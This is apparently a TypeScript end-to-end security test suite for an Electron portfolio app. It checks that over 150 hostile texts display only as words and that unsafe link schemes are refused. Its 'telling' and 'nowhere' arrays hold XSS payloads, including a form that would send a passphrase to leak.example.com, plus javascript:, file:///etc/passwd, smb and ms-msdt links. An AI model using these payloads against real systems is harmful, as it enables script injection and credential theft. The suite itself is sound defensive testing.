import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchApp, type Running, temporaryHome } from '../support/electron-app.ts';
import { hostileTexts } from '../support/hostile-texts.ts';
import { askRaw, createPortfolio } from '../support/portfolio.ts';

const home = temporaryHome();
const today = '2026-11-20';
let running: Running;
/** Everything that the window asked for. */
const requests: string[] = [];

/**
 * Listens to everything that a text could make happen: what Electron is asked to open outside of the app, and what a
 * person is asked before, which is answered no until a test says otherwise.
 */
async function listen({ app, page }: Running): Promise<void> {
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => void dialog.dismiss());
  await app.evaluate(({ dialog, shell }) => {
    const heard: string[] = [];
    Reflect.set(globalThis, 'asked', heard);
    Reflect.set(globalThis, 'consent', 1);
    dialog.showMessageBox = (...given: unknown[]) => {
      const { detail } = Object(given.at(-1));
      heard.push(`question ${detail}`);
      return Promise.resolve({
        response: Reflect.get(globalThis, 'consent'),
        checkboxChecked: false,
      });
    };
    shell.openExternal = (address: string) => {
      heard.push(`opened ${address}`);
      return Promise.resolve();
    };
  });
  await page.evaluate(() => {
    const seen: string[] = [];
    Reflect.set(window, 'violations', seen);
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
}

const heard = (): Promise<string[]> =>
  running.app.evaluate(() => Reflect.get(globalThis, 'asked').splice(0));

/** The main process' answer to a question that has to succeed. */
async function must(channel: string, input: unknown): Promise<unknown> {
  const answered = await askRaw(running.page, channel, input);
  if (!answered.ok)
    throw new Error(`${channel}: ${answered.code} ${JSON.stringify(answered.details)}`);
  return answered.value;
}

const idOf = (value: unknown): string => String(Reflect.get(Object(value), 'id'));

/** One of each kind of record, made of this text wherever words may stand. Gives where they are shown. */
async function makeRecords(text: string): Promise<string[]> {
  const skillId = idOf(
    await must('skills.create', {
      name: `A ${text}`,
      category: text.slice(0, 60),
      description: text,
    }),
  );
  const goalId = idOf(
    await must('goals.create', { skillId, fromLevel: 3, toLevel: 5, why: text, by: '2027-03-31' }),
  );
  await must('milestones.add', { goalId, milestone: { title: text } });
  await must('ratings.add', {
    rating: { skillId, source: 'self', level: 4, basis: 'saw-it-done', day: today, sentence: text },
  });
  const learning = { title: text, kind: 'course', skillIds: [skillId], provider: text };
  const learningId = idOf(await must('learning.create', { learning }));
  const session = { skillId, task: text, day: today, attempts: [{ tried: text }] };
  const practiceId = idOf(await must('practice.record', { session }));
  const reflectionId = idOf(await must('reflections.create', { text, skillId, day: today }));
  const lessonId = idOf(await must('lessons.create', { learned: text, skillId, day: today }));
  const project = { title: text, startedOn: today, skillIds: [skillId] };
  const projectId = idOf(await must('projects.create', { project }));
  const personId = idOf(await must('people.create', { name: text, relation: 'peer' }));
  const evidenceId = idOf(
    await must('evidence.create', {
      title: text,
      description: text,
      content: { kind: 'quote', quote: text },
      links: [{ kind: 'skill', recordId: skillId }],
    }),
  );
  const credentialId = idOf(
    await must('credentials.create', {
      title: text,
      issuer: text.slice(0, 200),
      identifier: text.slice(0, 200),
      note: text,
      issuedOn: today,
      skillIds: [skillId],
    }),
  );
  return [
    `/skills/${skillId}`,
    `/goals/${goalId}`,
    `/learning/${learningId}`,
    `/practice/${practiceId}`,
    `/reflections/${reflectionId}`,
    `/reflections/lessons/${lessonId}`,
    `/projects/${projectId}`,
    `/people/${personId}`,
    `/evidence/${evidenceId}`,
    `/evidence/credentials/${credentialId}`,
  ];
}

/** A file that carries the text as its name. */
async function keepFile(text: string): Promise<string> {
  const bytes = Buffer.from(`<html><script>window.owned=1</script>${text}`);
  const begun = await must('evidence.begin', {
    fileName: `${text}.html`.slice(0, 200),
    size: bytes.length,
  });
  const upload = Reflect.get(Object(begun), 'upload');
  await must('evidence.append', { upload, position: 0, bytes: bytes.toString('base64') });
  return idOf(await must('evidence.finish', { upload, title: text, description: text, links: [] }));
}

/** Goes there, waits until the screen stands, and scrolls through it. Gives all the words that were seen. */
async function wordsAt(page: Page, path: string): Promise<string> {
  await page.evaluate((hash) => {
    location.hash = hash;
  }, `#${path}`);
  await page.locator('main h1, main h2').first().waitFor();
  return page.evaluate(async () => {
    const painted = () =>
      new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    await painted();
    const seen = new Set<string>();
    const boxes = [...document.querySelectorAll('main, main *')].filter(
      (box) => box.scrollHeight > box.clientHeight + 40 && box.clientHeight > 200,
    );
    for (const box of [document.documentElement, ...boxes]) {
      for (let top = 0; top <= box.scrollHeight; top += Math.max(200, box.clientHeight - 60)) {
        box.scrollTop = top;
        await painted();
        // biome-ignore lint/performance/useDomNodeTextContent: what a person sees, not what is merely there
        seen.add(document.body.innerText);
        for (const field of document.querySelectorAll('input, textarea')) {
          seen.add(String(Reflect.get(field, 'value')));
        }
      }
    }
    return [...seen].join('\n');
  });
}

/** What came alive: a mark on the window, elements that no screen of ours has, requests, questions, another page. */
async function alive(): Promise<unknown> {
  const found = await running.page.evaluate(() => ({
    owned: Reflect.get(window, 'owned') ?? null,
    elements: [
      ...document.querySelectorAll(
        'iframe, object, embed, webview, base, marquee, math, form[action], body script, video, audio, a[href^="javascript:" i]',
      ),
    ].map(({ outerHTML }) => outerHTML),
    violations: Reflect.get(window, 'violations'),
    page: location.href.split('#')[0],
  }));
  const strangers = requests.filter((url) => !/^(app:\/\/cloche\/|data:|blob:)/.test(url));
  const windows = await running.app.evaluate(
    ({ BrowserWindow }) => BrowserWindow.getAllWindows().length,
  );
  return { ...found, strangers, windows, outside: await heard() };
}

const nothing = {
  owned: null,
  elements: [],
  violations: [],
  page: 'app://cloche/index.html',
  strangers: [],
  windows: 1,
  outside: [],
};

const places = [
  '/',
  '/skills',
  '/skills/map',
  '/skills/mirror',
  '/goals',
  '/board',
  '/projects',
  '/evidence',
  '/evidence/credentials',
  '/people',
  '/timeline',
  '/ledger',
  '/learning',
  '/practice',
  '/practice/over-time',
  '/reflections',
  '/reflections/lessons',
  '/inbox',
  '/review',
  '/trash',
  '/settings',
];

beforeAll(async () => {
  running = await launchApp({ home: home.folder });
  await createPortfolio(running.page);
  await listen(running);
});

afterAll(async () => {
  await running.app.close();
  home.remove();
});

/** Places that show every title there is. */
const listing = ['/skills', '/learning', '/people', '/evidence', '/evidence/credentials', '/inbox'];

test('[T71] more than 150 hostile texts stand in every list as words, and nothing of them comes alive', async () => {
  expect(hostileTexts.length).toBeGreaterThanOrEqual(150);
  const skills = hostileTexts.map((text, n) => ({
    name: `${n} ${text}`,
    category: `${n % 9} ${text}`.slice(0, 60),
    description: text,
  }));
  await must('skills.addMany', { skills });
  const entries = hostileTexts.map((text, n) => ({
    title: `${n} ${text}`,
    kind: 'book',
    provider: text,
    state: 'planned',
  }));
  await must('learning.import', { entries, fileHash: '' });
  for (const text of hostileTexts) {
    await must('captures.add', { text });
    await must('people.create', { name: text, relation: 'peer' });
    await must('credentials.create', { title: text, issuedOn: today });
    await must('evidence.create', {
      title: text,
      description: text,
      content: { kind: 'quote', quote: text },
      links: [],
    });
  }
  await must('trash.put', {
    kind: 'skill',
    id: idOf(await must('skills.create', { name: hostileTexts[0] })),
  });
  for (const place of places) {
    const words = await wordsAt(running.page, place);
    expect([place, await alive()]).toEqual([place, nothing]);
    if (!listing.includes(place)) continue;
    const folded = (text: string) => text.replace(/\s+/gu, ' ').trim();
    const whole = folded(words);
    const unseen = hostileTexts.filter((text) => !whole.includes(folded(text)));
    expect([place, unseen]).toEqual([place, []]);
  }
});

/** One that would run or ask for the passphrase as soon as it is markup; one that is a link and turns words around. */
const telling = [
  `"><img src=x onerror="window.owned=1"><script>window.owned=1</script><form action="https://leak.example.com"><input name=passphrase autofocus>`,
  `\u202E[a link](javascript:window.owned=1) https://leak.example.com/as-text`,
];

test.for(telling)(
  '[T71] %s stays words on the page of every kind of record, as a file name and in the search',
  async (text) => {
    const pages = [...(await makeRecords(text)), `/evidence/${await keepFile(text)}`];
    const shown = text.replace(/\s+/gu, ' ');
    for (const path of pages) {
      const words = await wordsAt(running.page, path);
      expect([path, await alive()]).toEqual([path, nothing]);
      expect([path, words.replace(/\s+/gu, ' ').includes(shown)]).toEqual([path, true]);
    }
    await running.page.keyboard.press('Control+k');
    await running.page.getByRole('dialog').getByRole('searchbox').fill(text);
    await running.page.getByRole('dialog').getByText(shown.slice(0, 30)).first().waitFor();
    await running.page.keyboard.press('Escape');
    expect(await alive()).toEqual(nothing);
  },
);

const nowhere = [
  'javascript:window.owned=1',
  'file:///etc/passwd',
  'smb://leak.example.com/share',
  'vscode://file/etc/passwd',
  'ms-msdt:/id',
  'data:text/html,<script>window.owned=1</script>',
  'app://cloche/index.html',
  'blob:app://cloche/1',
  'https://bank.example@leak.example.com/',
  ' javascript:window.owned=1',
  '//leak.example.com',
];

test.for(nowhere)(
  '[T73] %s is no link: it is not stored as one, not asked about, and never opened',
  async (link) => {
    expect(await askRaw(running.page, 'app.openLink', { link })).toMatchObject({ ok: false });
    await running.page.evaluate((address) => {
      const link = document.createElement('a');
      link.href = address;
      link.target = '_blank';
      document.body.append(link);
      link.click();
      link.remove();
    }, link);
    await must('app.about', {});
    expect(await alive()).toMatchObject({ owned: null, windows: 1, outside: [], strangers: [] });
    await running.page.evaluate(() => Reflect.get(window, 'violations').splice(0));
  },
);

test.for(['https://example.com/a?b', 'http://example.com/', 'mailto:me@example.com'])(
  '[T73] %s is shown to its owner whole, and opened only when the owner says so',
  async (link) => {
    const open = () => askRaw(running.page, 'app.openLink', { link });
    expect(await open()).toMatchObject({ ok: true, value: { opened: false } });
    expect(await heard()).toEqual([`question ${link}`]);
    await running.app.evaluate(() => void Reflect.set(globalThis, 'consent', 0));
    expect(await open()).toMatchObject({ ok: true, value: { opened: true } });
    expect(await heard()).toEqual([`question ${link}`, `opened ${link}`]);
    await running.app.evaluate(() => void Reflect.set(globalThis, 'consent', 1));
  },
);

test('[T73] only a web address is stored as a link, whatever record carries it', async () => {
  const skillId = idOf(await must('skills.create', { name: 'Links' }));
  for (const link of [
    ...nowhere.filter((one) => !one.startsWith('https:')),
    'mailto:me@example.com',
  ]) {
    const learning = { title: 'x', kind: 'course', skillIds: [skillId], link };
    expect(await askRaw(running.page, 'learning.create', { learning })).toMatchObject({
      ok: false,
    });
    const content = { kind: 'link', link };
    const evidence = { title: 'x', content, links: [] };
    expect(await askRaw(running.page, 'evidence.create', evidence)).toMatchObject({ ok: false });
  }
});
